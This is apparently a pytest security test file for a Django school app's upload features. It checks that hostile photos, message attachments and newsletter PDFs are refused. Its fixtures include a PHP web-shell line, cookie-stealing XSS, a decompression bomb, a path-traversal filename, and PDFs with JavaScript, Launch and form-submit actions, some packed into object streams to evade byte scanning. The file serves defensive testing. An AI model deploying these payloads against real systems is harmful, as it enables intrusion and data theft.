"""Upload attacks (issue 9, with the photos issue): hostile files to every upload (group photos,
message attachments, news images, newsletter PDFs and attachments) are refused with a message
and store nothing; what is accepted is re-encoded and stored under a random key."""

import io

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from messaging.models import Attachment as MessageAttachment
from messaging.models import Conversation
from newsletters.demo import tiny_pdf
from newsletters.models import Publication
from photos.models import Photo
from tests.security.world import jpeg_bytes


def _png_bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (9000, 9000)).save(out, "PNG")  # 81 megapixels in a few kilobytes
    return out.getvalue()


def _pdf_with(active: bytes) -> bytes:
    pdf = tiny_pdf("Hallo")
    return pdf.replace(b"<< /Type /Catalog", b"<< /Type /Catalog " + active, 1)


def _packed(**parts) -> bytes:
    """A one-page PDF made by pikepdf whose catalogue carries ``parts`` as indirect objects,
    all written into a compressed object stream: no active name is visible in the file's bytes
    (issue 19, finding 3)."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    for key, value in parts.items():
        pdf.Root[f"/{key}"] = pdf.make_indirect(value)
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    data = out.getvalue()
    for name in (b"JavaScript", b"JS", b"Launch", b"Submit", b"Embedded", b"XFA", b"/EF"):
        assert name not in data, name
    return data


def _packed_pdfs() -> dict[str, bytes]:
    from pikepdf import Array, Dictionary, Name, String

    def action(kind, **more):
        return Dictionary(S=Name(f"/{kind}"), **more)

    return {
        "javascript-in-object-stream": _packed(
            OpenAction=action("JavaScript", JS=String("app.alert(1)"))
        ),
        "launch-in-object-stream": _packed(OpenAction=action("Launch", F=String("calc.exe"))),
        "submit-in-object-stream": _packed(
            OpenAction=action("SubmitForm", F=String("https://evil.example/"))
        ),
        "embedded-file-in-object-stream": _packed(
            Names=Dictionary(
                EmbeddedFiles=Dictionary(
                    Names=Array(
                        [String("x.exe"), Dictionary(Type=Name.Filespec, F=String("x.exe"))]
                    )
                )
            )
        ),
        "xfa-in-object-stream": _packed(
            AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp:xdp/>"))
        ),
        "javascript-name-tree-in-object-stream": _packed(
            Names=Dictionary(
                JavaScript=Dictionary(
                    Names=Array([String("a"), action("JavaScript", JS=String("app.alert(1)"))])
                )
            )
        ),
    }


HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'

HOSTILE_IMAGES = {
    "html-as-jpg": ("foto.jpg", HTML, "image/jpeg"),
    "svg-as-png": ("foto.png", SVG, "image/png"),
    "svg": ("foto.svg", SVG, "image/svg+xml"),
    "php-as-jpg": ("shell.php.jpg", b"<?php system($_GET['c']); ?>", "image/jpeg"),
    "truncated-jpeg": ("foto.jpg", jpeg_bytes()[:200], "image/jpeg"),
    "bomb": ("bom.png", _png_bomb(), "image/png"),
    "empty": ("leeg.jpg", b"", "image/jpeg"),
}

HOSTILE_PDFS = {
    "javascript": _pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "escaped-javascript": _pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "launch": _pdf_with(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "embedded-file": _pdf_with(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "html-with-pdf-header": b"%PDF-1.4\n" + HTML,
    **_packed_pdfs(),
}


def upload(name, data, content_type):
    return SimpleUploadedFile(name, data, content_type=content_type)


def _stored_files() -> set[str]:
    found = set()

    def walk(path):
        dirs, files = default_storage.listdir(path)
        found.update(f"{path}/{name}".lstrip("/") for name in files)
        for sub in dirs:
            walk(f"{path}/{sub}".lstrip("/"))

    walk("")
    return found


@pytest.mark.parametrize("case", HOSTILE_IMAGES)
def test_it_refuses_hostile_group_photos(client, login, cast, case):
    before = _stored_files()
    login(cast.sanne)
    response = client.post(
        f"/staff/photos/group/{cast.group_a.code}/upload/",
        {"photos": [upload(*HOSTILE_IMAGES[case])]},
        follow=True,
    )
    assert response.status_code == 200
    assert list(response.context["messages"]), "no message for the person"
    assert not Photo.objects.exists()
    assert _stored_files() == before


@pytest.mark.parametrize("case", [*HOSTILE_IMAGES, *(f"pdf-{key}" for key in HOSTILE_PDFS)])
def test_it_refuses_hostile_message_attachments(client, login, cast, statement, case):
    name, data, kind = (
        ("brief.pdf", HOSTILE_PDFS[case[4:]], "application/pdf")
        if case.startswith("pdf-")
        else HOSTILE_IMAGES[case]
    )
    before = _stored_files()
    login(cast.anna)
    response = client.post(
        "/messaging/new/",
        {
            "child": cast.daan.code,
            "subject": "Bijlage",
            "body": "Zie bijlage",
            "attachments": [upload(name, data, kind)],
        },
    )
    assert response.status_code in (200, 400)
    assert response.context["form"].errors
    assert not Conversation.objects.filter(subject="Bijlage").exists()
    assert not MessageAttachment.objects.exists()
    assert _stored_files() == before


@pytest.mark.parametrize(
    ("field", "case"),
    [("image", key) for key in HOSTILE_IMAGES]
    + [("pdf", key) for key in HOSTILE_PDFS]
    + [("attachments", key) for key in HOSTILE_PDFS],
)
def test_it_refuses_hostile_news_files(client, login, cast, field, case):
    kind = "newsletter" if field == "pdf" else "news"
    if field == "image":
        file = upload(*HOSTILE_IMAGES[case])
    else:
        file = upload("nieuwsbrief.pdf", HOSTILE_PDFS[case], "application/pdf")
    before = _stored_files()
    login(cast.lotte)
    response = client.post(
        f"/staff/newsletters/new/{kind}/",
        {"title": "Aanval", "body": "<p>Tekst</p>", "locations": [cast.loc1.pk], field: file},
    )
    assert response.status_code in (200, 400)
    assert not Publication.objects.filter(title="Aanval").exists()
    assert _stored_files() == before


def test_it_accepts_a_clean_newsletter_pdf(client, login, cast):
    """The control for the PDF checks above."""
    login(cast.lotte)
    response = client.post(
        "/staff/newsletters/new/newsletter/",
        {
            "title": "Nieuwsbrief",
            "body": "<p>Tekst</p>",
            "locations": [cast.loc1.pk],
            "pdf": upload("nieuwsbrief.pdf", tiny_pdf("Juni"), "application/pdf"),
        },
    )
    assert response.status_code == 302
    assert Publication.objects.get(title="Nieuwsbrief").pdf_key


def test_it_re_encodes_a_polyglot_and_stores_it_under_a_random_key(client, login, cast, statement):
    polyglot = jpeg_bytes() + b"<?php system($_GET['c']); ?><script>alert(1)</script>"
    login(cast.anna)
    response = client.post(
        "/messaging/new/",
        {
            "child": cast.daan.code,
            "subject": "Foto",
            "body": "Zie foto",
            "attachments": [upload("../../../etc/passwd.jpg", polyglot, "image/jpeg")],
        },
    )
    assert response.status_code == 302
    attachment = MessageAttachment.objects.get()
    assert ".." not in attachment.storage_key and "passwd" not in attachment.storage_key
    assert "/" not in attachment.filename and ".." not in attachment.filename
    with default_storage.open(attachment.storage_key, "rb") as handle:
        stored = handle.read()
    assert b"<?php" not in stored and b"<script>" not in stored
    delivered = client.get(f"/messaging/attachments/{attachment.code}/")
    assert delivered["Content-Type"] == "image/jpeg"
    assert delivered["X-Content-Type-Options"] == "nosniff"


def test_it_accepts_a_clean_pdf_with_object_streams_and_serves_a_news_attachment_as_download(
    client, login, cast, statement
):
    """The control for the packed cases: object streams themselves are fine. A news
    attachment, opened by every parent of a location, is a download, never shown inline."""
    from pikepdf import Dictionary, Name, String

    clean = _packed(
        OpenAction=Dictionary(S=Name.URI, URI=String("https://www.example.org/")),
        Info=Dictionary(Title=String("Juni")),
    )
    login(cast.lotte)
    response = client.post(
        "/staff/newsletters/new/news/",
        {
            "title": "Zomerfeest",
            "body": "<p>Tekst</p>",
            "locations": [cast.loc1.pk],
            "attachments": [upload("programma.pdf", clean, "application/pdf")],
        },
    )
    assert response.status_code == 302
    publication = Publication.objects.get(title="Zomerfeest")
    attachment = publication.attachments.get()
    login(cast.anna)
    delivered = client.get(f"/newsletters/{publication.code}/files/{attachment.code}/")
    assert delivered.status_code == 200
    assert delivered["Content-Disposition"].startswith("attachment;")
    assert b"".join(delivered.streaming_content) == clean


def test_it_says_why_a_packed_pdf_with_javascript_is_refused(client, login, cast, statement):
    login(cast.anna)
    response = client.post(
        "/messaging/new/",
        {
            "child": cast.daan.code,
            "subject": "Bijlage",
            "body": "Zie bijlage",
            "attachments": [
                upload("brief.pdf", HOSTILE_PDFS["javascript-in-object-stream"], "application/pdf")
            ],
        },
    )
    assert "Sla hem opnieuw op zonder" in response.text
    assert not Conversation.objects.filter(subject="Bijlage").exists()


def test_it_refuses_a_password_protected_pdf_with_a_clear_message(client, login, cast, statement):
    """A PDF that cannot be read without a password cannot be checked either."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
    login(cast.anna)
    response = client.post(
        "/messaging/new/",
        {
            "child": cast.daan.code,
            "subject": "Bijlage",
            "body": "Zie bijlage",
            "attachments": [upload("brief.pdf", out.getvalue(), "application/pdf")],
        },
    )
    assert "beveiligd met een wachtwoord" in response.text
    assert not Conversation.objects.filter(subject="Bijlage").exists()
